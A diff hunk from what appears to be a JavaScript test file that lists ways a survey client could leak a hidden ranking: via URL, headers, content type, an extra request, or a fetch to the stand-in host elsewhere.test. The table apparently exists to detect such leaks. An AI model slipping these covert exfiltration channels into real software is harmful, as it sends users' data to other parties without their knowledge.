@@ -397,7 +397,7 @@ const LEAKS = {
   "in the address": ["/reports`", "/reports?ranking=3,1,0,2`"],
   "in a header": [HEADERS, '{ "Content-Type": "application/json", "X-Ranking": "3,1,0,2" }'],
   "in the type of the content": [HEADERS, '{ "Content-Type": "application/json; ranking=3102" }'],
-  "in the question for pairs": ["JSON.stringify({ ...needed, ...read })", "JSON.stringify({ ...needed, ...read, favourite: 3 })"],
+  "in the question for pairs": ["{ ...needed, ...read }, wantedWork", "{ ...needed, ...read, favourite: 3 }, wantedWork"],
   "in a request of its own": [SENDING, `await this.#request(surveyUrl(curator, id) + "/extra", "[3,1,0,2]").catch(() => null); ${SENDING}`],
   "to somebody else": [SENDING, `await this.#request("https://elsewhere.test/", "[3,1,0,2]").catch(() => null); ${SENDING}`],
   "in an answer": ["{ pair, answer: sent }", "{ pair, answer: sent, meant: true }"],
